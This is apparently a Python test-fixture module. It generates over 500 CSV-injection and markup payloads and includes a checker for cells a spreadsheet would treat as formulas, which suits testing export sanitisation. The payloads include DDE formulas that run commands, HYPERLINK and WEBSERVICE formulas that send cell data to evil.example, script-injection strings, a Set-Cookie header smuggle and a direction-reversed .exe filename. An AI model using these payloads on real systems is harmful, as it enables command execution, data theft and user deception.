"""Text that turns on whoever shows or opens it: formulas, markup, line breaks, controls, letters that turn the direction."""

from __future__ import annotations

from itertools import product

_BEFORE = (
    "",
    " ",
    "\t",
    "\r",
    "\n",
    "\r\n",
    "\ufeff",
    "\u200b",
    "\u202e",
    "\u2066",
    "\x00",
    "\x1b",
    "'",
    '"',
    "\xa0",
    "\u3000",
)
_FORMULAS = (
    "=1+1",
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "=cmd|'/C calc'!A0",
    "+1+cmd|'/C calc'!A0",
    "-2+3+cmd|'/C calc'!A0",
    "@SUM(1+1)*cmd|'/C calc'!A0",
    "|calc",
    "%0A=1",
    "\uff1d1+1",
    "\uff0b1",
    '=WEBSERVICE("http://evil.example")',
    '=IMPORTXML(CONCAT("http://evil.example"),"//a")',
    '=DDE("cmd";"/C calc";"x")',
    "{=1+1}",
    "=\t1",
)
_MARKUP = (
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "<svg/onload=alert(1)>",
    "{{7*7}}",
    "{% raw %}",
    "${7*7}",
    "&lt;b&gt;",
    "]]><x/>",
    "<!--",
    "javascript:alert(1)",
    "a\r\nSet-Cookie: x=1",
    "a,b;c\td",
    'a","=1+1","b',
    "\ud83d\ude00".encode("utf-16", "surrogatepass").decode("utf-16"),
    "a\u202egnp.exe",
    "\u0645\u062d\u0645\u062f \u2067=1+1",
    "A" * 33_000,
)
PAYLOADS = tuple(dict.fromkeys(before + body for before, body in product(_BEFORE, (*_FORMULAS, *_MARKUP))))
"""More than 500, each once."""

FORMULA_STARTS = frozenset("=+-@|%\uff1d\uff0b\uff0d\uff20")

_PASSED_OVER = (
    "".join(map(chr, range(33))) + "\xa0\u3000\ufeff\u200b\u200e\u200f\u202a\u202b\u202d\u202e\u2066\u2067\u2068"
)


def looks_live(cell: str) -> bool:
    """Whether a spreadsheet might take a cell of a csv file for a formula, after whatever it passes over at the start."""
    start = cell.lstrip(_PASSED_OVER)
    return start[:1] in FORMULA_STARTS and start[:1] != "" and not start.lstrip("-").replace(".", "").isdigit()
